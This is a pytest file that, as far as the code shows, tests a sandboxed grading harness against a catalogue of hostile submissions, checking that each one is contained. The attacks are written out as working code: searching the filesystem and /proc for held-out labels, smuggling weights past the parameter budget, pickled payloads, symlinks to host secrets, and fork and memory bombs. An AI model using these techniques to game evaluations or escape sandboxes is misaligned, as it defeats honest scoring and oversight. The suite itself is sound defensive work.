                   return _honest_predict(model, features)
           ''')),
            "train.py": train_py(before_save='''
                import json
                from model import report, walk_for_labels
                found = walk_for_labels()
                report("train", **found)
                model.found_ = json.dumps(found)[:200]  # and into the artifact
            ''')},
           _expect_walk("train", [])),
    Attack("walk_filesystem_for_labels_in_prediction",
           in_prediction(code(WALK, '''
               _honest_predict = predict


               def predict(model, features):
                   report("predict", **walk_for_labels())
                   return _honest_predict(model, features)
           ''')),
           _expect_walk("predict", ["/data/heldout_features.csv"])),
    Attack("editable_install_points_at_the_repository",
           {"model.py": model_py(), "train.py": train_py(after_save=EDITABLE_INSTALL)}, _expect_editable),
    Attack("pitfalls_home_database_and_snapshots", in_both_phases(HOME_PROBE), _expect_home),
    Attack("proc_environ_and_cmdline_of_every_process", in_both_phases(PROC_PROBE), _expect_proc),
    Attack("proc_root_cwd_and_fds_of_other_processes", in_both_phases(ROOT_PROBE), _expect_root),
    Attack("docker_and_session_sockets", in_both_phases(SOCKET_PROBE), _expect_sockets),
    Attack("network_to_host_listeners_and_internet", in_both_phases(NET_PROBE), _expect_network),
    Attack("artifacts_folder_linked_to_a_host_folder", ARTIFACTS_DIR_LINK, _expect_artifacts_dir_link),
]


# ----- 2. smuggling a model past the parameter budget (2,000) --------------------------------

WEIGHTS_LIST = ", ".join(f"{v:.8f}" for v in _floats(8000))  # ~100 KiB of source
WEIGHTS_B64 = base64.b64encode(_floats(7500).astype(np.float64).tobytes()).decode()  # 80 KB

# model.py is small when submitted; training appends 100,000 characters of weights to it
TRAIN_REWRITES_MODEL = '''
import base64
import numpy as np
blob = base64.b64encode(np.random.default_rng(0).normal(size=20_000).astype(np.float32).tobytes()).decode()
with open("model.py", "a") as fh:  # the workspace copy's model.py is what reaches the predictor
    fh.write("\\nWEIGHTS = '" + blob[:100_000] + "'\\n")
'''

# weights in a second module written by training (only predict_files reach the predictor)
EXTRA_MODULE = {
    "train.py": train_py(after_save='''
        import numpy as np
        with open("weights.py", "w") as fh:  # next to model.py, small enough for the code budget
            fh.write("W = %r\\n" % [round(float(v), 6) for v in np.random.default_rng(0).normal(size=3000)])
    '''),
    "model.py": model_py('''
        _honest_load = load_model


        def load_model(path):
            import os
            import sys
            sys.path[:0] = ["/workspace", os.path.dirname(path)]
            report("predict", listing=sorted(os.listdir(os.path.dirname(path))))
            import weights  # written by train.py
            return _honest_load(path)
    '''),
}

# train.py code that reopens the saved artifact, to tamper with its members
REWRITE_ZIP = '''
import io
import zipfile
import numpy as np

with zipfile.ZipFile("artifacts/model.skops") as zf:
    members = {n: zf.read(n) for n in zf.namelist()}


def save_members():
    with zipfile.ZipFile("artifacts/model.skops", "w") as zf:
        for n, data in members.items():
            zf.writestr(n, data)
'''

# an array member replaced by a pickled object array: whoever unpickles it runs the payload
PICKLED_ARRAY = REWRITE_ZIP + '''


class Payload:
    def __reduce__(self):  # wherever this is unpickled, it creates a file
        return (open, ("__MARK__-unpickled", "w"))


victim = next(n for n in members if n.endswith(".npy"))
buf = io.BytesIO()
np.save(buf, np.array([Payload()] * 3, dtype=object), allow_pickle=True)
members[victim] = buf.getvalue()
save_members()
'''

# model.py (imported by training too) patches what a counter would use: numpy's .npy header
# readers, zipfile, and pitfalls itself if it were importable. Counting happens outside.
MONKEYPATCH_HEAD = '''
import zipfile
import numpy.lib.format as _npy_format


def _one_element(real):
    def header(fp, *args, **kwargs):  # every array looks like a single number
        shape, fortran, dtype = real(fp, *args, **kwargs)
        return (1,), fortran, dtype
    return header


_npy_format.read_array_header_1_0 = _one_element(_npy_format.read_array_header_1_0)
_npy_format.read_array_header_2_0 = _one_element(_npy_format.read_array_header_2_0)
zipfile.ZipFile.infolist = lambda self: []  # no members, no sizes
try:
    import pitfalls.budget.artifacts
    pitfalls.budget.artifacts.count_params = lambda *a, **k: pitfalls.budget.artifacts.ParamCount(total=1)
    PATCHED = "pitfalls.budget.artifacts.count_params"
except ImportError as exc:
    PATCHED = f"no pitfalls here: {exc}"
'''

# modules named like the ones the runner imports, left in the workspace copy for anything that
# would import from it; each creates a file on the host if it runs there
SHADOW_MODULES = '''
from model import report
planted = []
for name in ("json", "zipfile", "numpy", "sitecustomize", "usercustomize", "pitfalls", "skops", "sklearn"):
    for folder in (".", "artifacts", "data"):
        path = os.path.join(folder, name + ".py")
        with open(path, "w") as fh:  # runs wherever it is imported from
            fh.write("open('__MARK__-shadow-%s', 'w').close()\\n" % name)
        planted.append(path)
with open("artifacts/zz-pitfalls.pth", "w") as fh:
    fh.write("import os; open('__MARK__-pth', 'w').close()\\n")
report("train", planted=len(planted))
'''

# the classifier's node renamed to a class "defined in model.py" whose name holds its coefficients
CLASS_NAMES = REWRITE_ZIP + '''
import json

digits = "_".join(f"{v:.6f}".replace(".", "d").replace("-", "m") for v in model[-1].coef_.ravel())


def retag(node):  # the classifier's class name now carries its own coefficients
    if isinstance(node, dict):
        if node.get("__class__") == "LogisticRegression":
            node["__module__"], node["__class__"] = "model", "W_" + digits
        for child in node.values():
            retag(child)
    elif isinstance(node, list):
        for child in node:
            retag(child)


schema = json.loads(members["schema.json"])
retag(schema)
members["schema.json"] = json.dumps(schema).encode()
save_members()
'''

# prediction looks for the training data (and copies training left around) to retrain on the spot
RETRAIN_AT_PREDICT = {
    "train.py": train_py(after_save='''
        import shutil
        for copy in ("/tmp/train.csv", "/dev/shm/train.csv", "artifacts/train.csv"):
            shutil.copy("data/train.csv", copy)
    '''),
    "model.py": model_py('''
        def load_model(path):
            import os
            import sys
            import pandas as pd
            skip = {"/proc", "/sys", "/usr", sys.prefix, sys.base_prefix, os.path.realpath(sys.base_prefix)}
            found = []
            for root, dirs, files in os.walk("/"):
                dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
                found += [os.path.join(root, f) for f in files if f.endswith(".csv") and "heldout" not in f]
            tried = ["data/train.csv", "/workspace/data/train.csv", "/tmp/train.csv", "/dev/shm/train.csv",
                     os.path.join(os.path.dirname(path), "train.csv")]
            report("predict", found=found, tried={p: os.path.exists(p) for p in tried})
            df = pd.read_csv("/workspace/data/train.csv")  # retrain here, with a model of any size
            raise SystemExit("unreachable: " + str(len(df)))
    '''),
}

# training saves 50,000 more weights next to the artifact and elsewhere; prediction looks for them
EXTRA_NPY = {
    "train.py": train_py(after_save='''
        import numpy as np
        for path in ("artifacts/extra.npy", "extra.npy", "/tmp/extra.npy", "/dev/shm/extra.npy"):
            np.save(path, np.random.default_rng(0).normal(size=50_000))  # 25x the budget
    '''),
    "model.py": model_py('''
        _honest_load = load_model


        def load_model(path):
            import os
            import numpy as np
            here = os.path.dirname(path)
            tried = [os.path.join(here, "extra.npy"), "extra.npy", "/workspace/artifacts/extra.npy",
                     "/workspace/extra.npy", "/tmp/extra.npy", "/dev/shm/extra.npy"]
            found = [p for p in tried if os.path.exists(p)]
            report("predict", found=found, listing=sorted(os.listdir(here)))
            return _honest_load(path), np.load((found or tried)[0])
    '''),
}


def _expect_retrain(o: Outcome) -> None:
    failed(o, "predict() in model.py must exit cleanly", "FileNotFoundError")
    found = o.report("predict")
    assert found["found"] == [] and not any(found["tried"].values()), found


def _expect_extra_npy(o: Outcome) -> None:
    failed(o, "predict() in model.py must exit cleanly", "FileNotFoundError")
    found = o.report("predict")
    assert found["found"] == [] and found["listing"] == ["model.py", "model.skops"], found


# The same 20,000 float32 (10x the budget) ride in numbers the counter charges one each:
# Python ints of 1,600 bytes (~3,850 digits, under the int-from-text limit) in plain skops.io.dump.
BIG_INTS = {
    "train.py": train_py(before_save='''
        import numpy as np
        hidden = np.random.default_rng(0).normal(size=20_000).astype(np.float32).tobytes()
        model.digits_ = [int.from_bytes(hidden[i:i + 1600], "little") for i in range(0, len(hidden), 1600)]
    '''),
    "model.py": model_py('''
        _honest_predict = predict


        def predict(model, features):
            import numpy as np
            raw = b"".join(n.to_bytes(1600, "little") for n in getattr(model, "digits_", []))
            hidden = np.frombuffer(raw, dtype=np.float32)
            expected = np.random.default_rng(0).normal(size=20_000).astype(np.float32)
            report("predict", recovered=int(hidden.size) if np.array_equal(hidden, expected) else 0)
            return _honest_predict(model, features)
    '''),
}

# ... as text in a schema key the counter skips as structure ("type") and the re-encoding keeps
STRUCTURE_KEY = {
    "train.py": train_py(after_save=code(REWRITE_ZIP, '''
        import json
        schema = json.loads(members["schema.json"])
        schema["type"] = ",".join(f"{v:.9g}" for v in np.random.default_rng(0).normal(size=20_000).astype(np.float32))
        members["schema.json"] = json.dumps(schema).encode()
        save_members()
    ''')),
    "model.py": model_py('''
        _honest_load = load_model


        def load_model(path):
            import json
            import zipfile
            import numpy as np
            with zipfile.ZipFile(path) as zf:
                text = json.loads(zf.read("schema.json")).get("type", "")
            hidden = np.array([float(v) for v in text.split(",") if v], dtype=np.float32)
            expected = np.random.default_rng(0).normal(size=20_000).astype(np.float32)
            report("predict", recovered=int(hidden.size) if np.array_equal(hidden, expected) else 0)
            return _honest_load(path)
    '''),
}

# ... as the digits of one float literal: the counter parses the node (one number); the
# predictor's copy keeps the literal as written
LONG_LITERAL = {
    "train.py": train_py(before_save="model.note_ = 0.5", after_save=code(REWRITE_ZIP, '''
        import json
        import sys
        sys.set_int_max_str_digits(0)
        hidden = np.random.default_rng(0).normal(size=5_000).astype(np.float32).tobytes()
        schema = json.loads(members["schema.json"])
        node = schema["content"]["content"]["note_"]
        node["content"] = "0.5" + str(int.from_bytes(b"\\x01" + hidden, "big"))
        members["schema.json"] = json.dumps(schema).encode()
        save_members()
    ''')),
    "model.py": model_py('''
        _honest_load = load_model


        def load_model(path):
            import json
            import sys
            import zipfile
            import numpy as np
            sys.set_int_max_str_digits(0)
            with zipfile.ZipFile(path) as zf:
                text = json.loads(zf.read("schema.json"))["content"]["content"]["note_"]["content"]
            n = int(text[3:])
            hidden = np.frombuffer(n.to_bytes((n.bit_length() + 7) // 8, "big")[1:], dtype=np.float32)
            expected = np.random.default_rng(0).normal(size=5_000).astype(np.float32)
            report("predict", recovered=int(hidden.size) if np.array_equal(hidden, expected) else 0)
            return _honest_load(path)
    '''),
}

# ... as a list of class references (free: "the choice among existing class names"), four bits
# each from a palette of sixteen
PALETTE = '''
import numpy as np

PALETTE = [int, float, str, bool, complex, bytes, bytearray, list, tuple, dict, set, frozenset, range, slice,
           np.float64, np.int64]
'''
CLASS_PALETTE = {
    "train.py": train_py(before_save='''
        import numpy as np
        from model import PALETTE
        hidden = np.frombuffer(np.random.default_rng(0).normal(size=2_500).astype(np.float32).tobytes(), np.uint8)
        model.kinds_ = [PALETTE[b >> 4] for b in hidden] + [PALETTE[b & 15] for b in hidden]
    '''),
    "model.py": model_py(code(PALETTE, '''
        _honest_predict = predict


        def predict(model, features):
            index = {kind: i for i, kind in enumerate(PALETTE)}
            kinds = [index[k] for k in getattr(model, "kinds_", [])]
            half = len(kinds) // 2
            raw = bytes((kinds[i] << 4) | kinds[half + i] for i in range(half))
            hidden = np.frombuffer(raw, dtype=np.float32)
            expected = np.random.default_rng(0).normal(size=2_500).astype(np.float32)
            report("predict", recovered=int(hidden.size) if np.array_equal(hidden, expected) else 0)
            return _honest_predict(model, features)
    ''')),
}

SMUGGLING = [
    Attack("weights_in_an_extra_estimator_attribute",
           in_training(before_save="model[-1].w_hidden_ = __import__('numpy').random.default_rng(0).normal(size=5000)"),
           over_budget_by(5000 + 2, "w_hidden_")),  # 5,000 numbers, and 9 characters of name (5 per number)
    Attack("weights_in_a_dict_attribute",
           in_training(before_save='''
               import numpy as np
               model.lookup_ = {"w": [float(v) for v in np.random.default_rng(0).normal(size=3000)], "b": 0.5}
           '''),
           # values, "w", "b", 0.5 and the name (7 characters); skops_count charges each list element
           # under its own key (lookup_[w][0], ...), one each, so no lookup_ key is among the top 12
           over_budget_by(3000 + 1 + 1 + 1 + 2, None)),
    Attack("weights_as_a_literal_list_in_model_py",
           {"model.py": model_py(f"WEIGHTS = [{WEIGHTS_LIST}]"), "train.py": HONEST_TRAIN}, code_over_budget()),
    Attack("weights_as_base64_in_model_py",
           {"model.py": model_py(f'''
               import base64
               import numpy as np
               WEIGHTS = np.frombuffer(base64.b64decode("{WEIGHTS_B64}"), dtype=np.float64)
           '''), "train.py": HONEST_TRAIN}, code_over_budget()),
    Attack("training_appends_weights_to_model_py",
           in_training(TRAIN_REWRITES_MODEL), code_over_budget(len("\nWEIGHTS = '") + 100_000 + len("'\n"))),
    Attack("training_writes_a_second_module", EXTRA_MODULE,
           both(lambda o: failed(o, "predict() in model.py must exit cleanly", "No module named 'weights'"),
                assert_listing)),
    Attack("extra_zip_member_in_the_artifact", in_training(code(REWRITE_ZIP, '''
               buf = io.BytesIO()
               np.save(buf, np.random.default_rng(0).normal(size=10_000))
               with zipfile.ZipFile("artifacts/model.skops", "a") as zf:
                   zf.writestr("hidden.npy", buf.getvalue())
           ''')), artifact_refused("must contain only schema.json and the arrays it references", "hidden.npy")),
    Attack("duplicate_zip_member_in_the_artifact", in_training(code(REWRITE_ZIP, '''
               import warnings
               warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
               buf = io.BytesIO()
               np.save(buf, np.random.default_rng(0).normal(size=10_000))
               with zipfile.ZipFile("artifacts/model.skops", "a") as zf:
                   zf.writestr(next(n for n in members if n.endswith(".npy")), buf.getvalue())
           ''')), artifact_refused("duplicate member names")),
    Attack("pickled_object_array_inside_the_artifact", in_training(PICKLED_ARRAY),
           artifact_refused("must not hold Python objects")),
    Attack("model_py_monkeypatches_the_counter",
           {"model.py": model_py(head=MONKEYPATCH_HEAD),
            "train.py": train_py(before_save='''
                import numpy as np
                from model import PATCHED, report
                report("train", patched=PATCHED)
                model.w_ = np.random.default_rng(0).normal(size=5000)
            ''')},
           both(over_budget_by(5000 + 1, "w_"),
                lambda o: assert_startswith(o.report("train")["patched"], "no pitfalls here"))),
    Attack("shadow_modules_left_in_the_workspace_copy", in_training(SHADOW_MODULES),
           both(scored, lambda o: assert_equal(o.result.params - code_cost(o.files),  # counted exactly as honest
                                               o.honest.params - code_cost(HONEST)),
                lambda o: assert_equal(o.report("train")["planted"], 24))),
    Attack("numbers_in_a_class_name_of_the_artifact", in_training(CLASS_NAMES),
           artifact_refused("must name its class as skops.io.dump writes it", "__module__='model'",
                            "__class__='W_")),
    Attack("retraining_at_prediction_from_train_csv", RETRAIN_AT_PREDICT, _expect_retrain),
    Attack("extra_npy_saved_by_training_loaded_at_prediction", EXTRA_NPY, _expect_extra_npy),
    Attack("weights_as_huge_python_ints", BIG_INTS, not_smuggled(20_000)),
    Attack("weights_in_a_structural_schema_key", STRUCTURE_KEY, not_smuggled(20_000)),
    Attack("weights_as_digits_of_one_float_literal", LONG_LITERAL, not_smuggled(5_000)),
    Attack("weights_as_a_palette_of_class_references", CLASS_PALETTE, not_smuggled(2_500)),
]


# ----- 3. escaping the limits ------------------------------------------------------------------

def _stopped(constraint: str, limit: int, phase: str) -> Callable[[Outcome], None]:
    def expect(o: Outcome) -> None:
        v = rejected(o, constraint, f"{phase} must finish within {limit} s", "Got stopped after")
        assert v.limit == limit and limit <= v.actual < limit + 10, v  # killed at once, even under load
        assert o.report({"Training": "train", "Prediction": "predict"}[phase])["started"]
    return expect


def _bomb_contained(o: Outcome) -> None:
    r = o.result
    assert r.status in ("rejected", "failed"), brief(r)
    assert "started" in o.report("predict")
    if r.status == "rejected":
        _stopped("predict_seconds", SHORT_PREDICT_SECONDS, "Prediction")(o)


def _memory_bomb(o: Outcome) -> None:
    v = rejected(o, "memory_mb", "Prediction must stay under 2048 MiB", "Got killed")
    assert v.limit == 2048 and isinstance(v.actual, int) and v.actual > 0, v
    assert o.report("predict")["started"]


def _big_file(o: Outcome) -> None:
    scored(o)
    found = o.report("train")
    assert found["size"] == SHORT_FILE_MB * 2**20 and found["errno"] == 27, found  # EFBIG at max_file_mb


def _disk_quota(o: Outcome) -> None:
    """The job folder is a size-limited file system: the writes stop with ENOSPC near max_disk_mb
    (plus the folder's headroom for the workspace and data), far below the 480 MiB attempted."""
    found = o.report("train")
    if found["errno"] is None:
        raise Escaped(f"training wrote {found['total_mib']} MiB to the host's disk in {found['files']} files, "
                      f"{found['total_mib'] // SHORT_FILE_MB}x the {SHORT_FILE_MB} MiB file budget, and nothing "
                      "stopped it")
    assert found["errno"] == errno.ENOSPC, found
    assert found["total_mib"] <= SHORT_DISK_MB + JOB_HEADROOM_MB, found
    assert not glob.glob(f"{tempfile.gettempdir()}/pitfalls-job-{os.getpid()}-*"), "the job folder outlived the run"


def _writes(phase: str, targets: list[str]) -> Callable[[Outcome], None]:
    def expect(o: Outcome) -> None:
        scored(o)
        results = o.report(phase)["results"]
        for target in targets:
            assert results[o.host.render(target)] != "wrote", results
        # the other targets may "succeed" inside the sandbox (its private /tmp); the host checks
        # of assert_nothing_escaped decide whether anything got out
    return expect


WRITE_TARGETS = ["__MARK__-write", "__WS__/escaped-__TOKEN__", "__HOME__/escaped-__TOKEN__",
                 "__HOME__/pitfalls.sqlite", "/workspace/../escaped-__TOKEN__", "/escaped-__TOKEN__",
                 "__REPO__/scaffolds/tumor_triage/escaped-__TOKEN__", "/proc/1/root/tmp/escaped-__TOKEN__",
                 "/proc/1/cwd/escaped-__TOKEN__", "/usr/escaped-__TOKEN__"]
PREDICT_TARGETS = ["/model/model.py", "/data/heldout_features.csv", "/harness/predict.py"]
WRITE_PROBE = r'''
import os


def probe():
    results = {}
    for path in __TARGETS__:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as fh:
                fh.write("escaped __TOKEN__")
            results[path] = "wrote"
        except OSError as exc:
            results[path] = type(exc).__name__
    return {"results": results}
'''

LIMITS = [
    Attack("file_larger_than_max_file_mb", in_training('''
               from model import report
               error = None
               try:
                   with open("big.bin", "wb") as fh:
                       for _ in range(64):  # 64 MiB, four times the file budget
                           fh.write(b"\\0" * 2**20)
               except OSError as exc:
                   error = exc.errno
               report("train", size=os.path.getsize("big.bin"), errno=error)
           '''), _big_file, short=True),
    Attack("many_files_under_max_file_mb_fill_the_disk", in_training('''
               from model import report
               total, error, n = 0, None, 0
               try:
                   for n in range(32):  # 32 files of 15 MiB: 480 MiB, each under the 16 MiB file budget
                       with open(f"fill-{n}.bin", "wb") as fh:
                           for _ in range(15):
                               fh.write(b"\\1" * 2**20)
                               total += 2**20
               except OSError as exc:
                   error = exc.errno
               report("train", total_mib=total // 2**20, files=n + 1, errno=error)
               for name in os.listdir("."):
                   if name.startswith("fill-"):
                       os.remove(name)
           '''), _disk_quota, short=True),
    Attack("training_loops_forever_ignoring_signals", in_training('''
               import signal
               from model import report
               for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM):
                   signal.signal(sig, signal.SIG_IGN)
               report("train", started=True)
               while True:
                   pass
           '''), _stopped("train_seconds", SHORT_TRAIN_SECONDS, "Training"), short=True),
    Attack("prediction_sleeps_past_its_budget", in_prediction('''
               def predict(model, features):
                   import time
                   report("predict", started=True)
                   time.sleep(1000)
           '''), _stopped("predict_seconds", SHORT_PREDICT_SECONDS, "Prediction"), short=True),
    Attack("fork_bomb_in_prediction", in_prediction('''
               def predict(model, features):
                   import os
                   with open("/proc/self/comm", "w") as fh:
                       fh.write("pf__TOKEN__")
                   report("predict", started=True)
                   while True:
                       try:
                           os.fork()
                       except OSError:
                           pass
           '''), _bomb_contained, short=True),
    Attack("memory_bomb_in_prediction", in_prediction('''
               def predict(model, features):
                   report("predict", started=True)
                   hog = []
                   while True:  # 64 MiB at a time, every page written
                       hog.append(b"x" * (64 * 2**20))
           '''), _memory_bomb),
    Attack("daemons_started_in_prediction", in_prediction('''
               _honest_predict = predict


               def predict(model, features):
                   import os
                   import subprocess
                   subprocess.Popen(["sleep", "600.__TOKEN__"], start_new_session=True, stdin=subprocess.DEVNULL,
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                   if os.fork() == 0:  # a double fork: the grandchild is orphaned, in its own session
                       os.setsid()
                       if os.fork() == 0:
                           os.execvp("sleep", ["sleep", "601.__TOKEN__"])
                       os._exit(0)
                   report("predict", started=True)
                   return _honest_predict(model, features)
           '''), both(scored, lambda o: assert_equal(o.report("predict")["started"], True))),
    Attack("writes_outside_the_training_sandbox",
           {"model.py": model_py(WRITE_PROBE.replace("__TARGETS__", json.dumps(WRITE_TARGETS))),
            "train.py": train_py(after_save=PROBE_IN_TRAIN)},
           lambda o: _writes("train", ["/usr/escaped-__TOKEN__", "/proc/1/cwd/escaped-__TOKEN__"])(o)),
    Attack("writes_outside_the_prediction_sandbox",
           in_prediction(code(WRITE_PROBE.replace("__TARGETS__", json.dumps(WRITE_TARGETS + PREDICT_TARGETS)),
                              PROBE_IN_PREDICT)),
           _writes("predict", PREDICT_TARGETS + ["/usr/escaped-__TOKEN__"])),
]


# ----- 4. abusing the scorer -------------------------------------------------------------------

def _predicting(body: str) -> dict[str, str]:
    """model.py whose predict() runs ``body`` (which has the honest labels as ``honest``)."""
    head = dedent('''
        _honest_predict = predict


        def predict(model, features):
            import os
            import numpy as np
            honest = np.asarray(_honest_predict(model, features))
    ''')
    return in_prediction(head + indent(dedent(body).strip("\n"), "    "))


def _oversized_bytes() -> int:
    buf = io.BytesIO()
    np.save(buf, np.zeros(1_250_000))
    return len(buf.getvalue())


def _expect_symlinked_predictions(o: Outcome) -> None:
    assert o.report("predict")["planted"] == str(o.host.secret_dir / "labels.npy")
    if o.result.status == "scored":
        raise Leak(f"the scorer read a root-only host file through a link the predictor left in /out: "
                   f"it scored {o.result.score} on it")
    rejected(o, "predictions")


SCORER = [
    Attack("pickled_predictions_file", _predicting('''
               class Payload:
                   def __reduce__(self):  # wherever this is unpickled, it creates a file
                       return (open, ("__MARK__-unpickled", "w"))
               np.save("/out/predictions.npy", np.array([Payload()] * len(features), dtype=object), allow_pickle=True)
               report("predict", planted=True)
               os._exit(0)  # before the harness writes the real file
           '''), lambda o: rejected(o, "predictions", "Predictions must be a numeric array")),
    Attack("predictions_file_linked_to_a_host_file", _predicting('''
               os.symlink("__SECRET__/labels.npy", "/out/predictions.npy")
               report("predict", planted=os.readlink("/out/predictions.npy"))
               os._exit(0)
           '''), _expect_symlinked_predictions),
    Attack("oversized_predictions_file", _predicting('''
               np.save("/out/predictions.npy", np.zeros(1_250_000))  # 10 MB
               report("predict", planted=True)
               os._exit(0)
           '''), lambda o: assert_equal(rejected(o, "predictions").actual, f"{_oversized_bytes()} bytes")),
    Attack("predictions_one_row_too_many", _predicting('''
               report("predict", legit=[len(honest)])
               return np.append(honest, 0)
           '''), both(lambda o: rejected(o, "predictions", "Got shape (251,)"), no_label_information)),
    Attack("predictions_nan_where_the_model_says_malignant", _predicting('''
               out = honest.astype(float)
               out[honest == 1] = np.nan
               report("predict", legit=[int((honest == 1).sum())])
               return out
           '''), both(lambda o: rejected(o, "predictions", f"{o.report('predict')['legit'][0]} NaN or infinite"),
                      no_label_information)),
    Attack("probabilities_not_summing_to_one", _predicting('''
               report("predict", legit=[])
               return np.column_stack([1 - 0.9 * honest, 0.3 + 0.9 * honest])
           '''), both(lambda o: rejected(o, "predictions", "Got shape (250, 2)"), no_label_information)),
]

ATTACKS = SECRECY + SMUGGLING + LIMITS + SCORER


# =============================================================================================
# The tests
# =============================================================================================

@pytest.fixture(scope="module")
def short_scaffolds(tmp_path_factory) -> Path:
    """A copy of tumor_triage with SHORT_BUDGETS in the scaffold pack ``short`` (PITFALLS_SCAFFOLDS):
    short/tumor_triage."""
    root = tmp_path_factory.mktemp("short-scaffolds") / "short"
    shutil.copytree(TUMOR, root / "tumor_triage", ignore=shutil.ignore_patterns("__pycache__", "artifacts"))
    toml = root / "tumor_triage" / "scaffold.toml"
    text = toml.read_text()
    for old, new in SHORT_BUDGETS.items():
        assert old in text, f"scaffold.toml changed: {old!r} not found"
        text = text.replace(old, new)
    toml.write_text(text)
    return root


def new_workspace(directory: Path, files: dict[str, str]) -> Path:
    """A practice workspace of tumor_triage with the reference overlaid, then ``files`` (as the
    ``workspace`` fixture of conftest.py makes them)."""
    pack = os.environ.get("PITFALLS_SCAFFOLDS")  # the short group's: the pack short/
    name = f"{Path(pack).name}/tumor_triage" if pack else "tumor_triage"
    api.start_practice(name=name, directory=directory)
    materialize(scaffold=load_scaffold(name), target=directory, reference=True)
    for rel, text in files.items():
        (directory / rel).write_text(text)
    return directory


def attempt(attack: Attack, root: Path, home: Path) -> Outcome:
    """Submit ``attack`` in a workspace and session of its own, then the honest candidate in the
    same workspace; record what came back and what the host saw."""
    root.mkdir()
    with host_side(root, home) as host:
        files = {name: host.render(text) for name, text in attack.files.items()}
        ws = new_workspace(host.ws, {**HONEST, **files})
        before = workspace_files(ws)
        result = api.submit(directory=ws, note=f"attack: {attack.name}", probes=False)
        after = workspace_files(ws)
        assert_no_leftovers(host.token)
        changes = [f"{rel}: {after.get(rel, b'(deleted)')[:2000].decode(errors='replace')}"
                   for rel in sorted(set(before) | set(after)) if before.get(rel) != after.get(rel)]

        # the session goes on: the honest candidate, in the same workspace, right after the attack
        for name, text in HONEST.items():
            (ws / name).write_text(text)
        honest = api.submit(directory=ws, note="honest, after the attack", probes=False)
        assert honest.status == "scored", f"the session did not go on after {attack.name}:\n{brief(honest)}"
        assert honest.score is not None and honest.message.startswith("Scored:")
        history = api.history(directory=ws)
        assert [(r.submission_id, r.status) for r in history] == [
            (result.submission_id, result.status), (honest.submission_id, "scored")]
        assert_no_leftovers(host.token)
        return Outcome(attack=attack, result=result, honest=honest, history=history, host=host, files=files,
                       workspace_changes=changes, escaped=host.escapes(), arrived=host.arrivals())


PARALLEL = 2
"""Attacks run two at a time: a submission mostly keeps one core busy (the sandbox's imports and
a small fit), and the machine this suite is sized for has two."""


def selected_attacks(request) -> list[Attack]:
    """The attacks this run tests: all of them, or those picked with -k."""
    attacks = []
    for item in request.session.items:
        params = getattr(getattr(item, "callspec", None), "params", {})
        if item.module is request.module and "attack" in params:
            attacks.append(params["attack"])
    return attacks


@pytest.fixture(scope="module")
def outcomes(request, tmp_path_factory, short_scaffolds) -> dict[str, Outcome | BaseException]:
    """The outcome of every attack selected in this run (or what went wrong while making it)."""
    selected = selected_attacks(request)
    root = tmp_path_factory.mktemp("attacks")
    found: dict[str, Outcome | BaseException] = {}
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PITFALLS_HOME", str(root / "home"))
        for short in (False, True):  # PITFALLS_SCAFFOLDS is per process: one group at a time
            if short:
                mp.setenv("PITFALLS_SCAFFOLDS", str(short_scaffolds))
            else:
                mp.delenv("PITFALLS_SCAFFOLDS", raising=False)
            group = [a for a in selected if a.short == short]
            pool = ThreadPoolExecutor(PARALLEL, thread_name_prefix="attack")
            try:
                futures = {a.name: pool.submit(attempt, a, root / a.name, root / "home") for a in group}
                pool.shutdown(wait=True)
            except BaseException:  # the test's timeout: queued attacks must not run on into later tests
                pool.shutdown(wait=False, cancel_futures=True)
                raise
            for name, future in futures.items():
                try:
                    found[name] = future.result()
                except BaseException as exc:  # noqa: BLE001 - reported by the attack's own test
                    found[name] = exc
    return found


@pytest.mark.timeout(1200)  # the first test also waits for the outcomes of all of them
@pytest.mark.parametrize("attack", [a.param() for a in ATTACKS])
def test_attack_fails_and_the_session_goes_on(attack, outcomes):
    outcome = outcomes[attack.name]
    if isinstance(outcome, BaseException):
        raise outcome
    attack.expect(outcome)
    assert_nothing_escaped(outcome)
    assert_nothing_leaked(outcome)


def test_catalogue_is_complete():
    names = [a.name for a in ATTACKS]
    assert len(names) == len(set(names)) >= 25, names


# ----- the runner's own process must not run what an artifact names ---------------------------

# A class reference (TypeNode) whose module is numpy.f2py.__main__: canonical.py checks that every
# class the artifact names exists by importing its module, and importing that module runs f2py's
# main() in the runner, which parses the runner's sys.argv and exits.
IMPORT_SIDE_EFFECT = REWRITE_ZIP + '''
import json
schema = json.loads(members["schema.json"])
schema["content"]["content"]["helper_"] = {"__class__": "main", "__module__": "numpy.f2py.__main__",
                                            "__loader__": "TypeNode", "__id__": 999999}
# a well-formed attribute (its key's type listed), so the check that resolves the class is reached
schema["content"]["key_types"]["content"].append(dict(schema["content"]["key_types"]["content"][0]))
members["schema.json"] = json.dumps(schema).encode()
save_members()
'''


@pytest.mark.timeout(300)
def test_artifact_cannot_make_the_runner_import_a_module(workspace, pitfalls_home, tmp_path, monkeypatch):
    monkeypatch.setattr(sys, "argv", ["pitfalls", "--no-such-f2py-option"])  # f2py's main() parses it
    monkeypatch.chdir(tmp_path)
    with host_side(tmp_path, pitfalls_home) as host:
        ws = workspace("tumor_triage", reference=True,
                       files={"model.py": model_py(), "train.py": train_py(after_save=IMPORT_SIDE_EFFECT)})
        assert ws == host.ws
        crash: BaseException | None = None
        try:
            result = api.submit(directory=ws, note="attack: import side effect", probes=False)
        except BaseException as exc:  # noqa: BLE001 - SystemExit is the point
            crash = exc
        for name, text in HONEST.items():
            (ws / name).write_text(text)
        honest = api.submit(directory=ws, note="honest, after the attack", probes=False)
        assert honest.status == "scored", brief(honest)
        if crash is not None:
            raise Escaped(f"the artifact made the runner's own process raise {type(crash).__name__}({crash})")
        assert result.status == "rejected" and [v.constraint for v in result.violations] == ["artifact"], brief(result)
        assert "numpy.f2py.__main__" in result.message and "must come from" in result.message, result.message
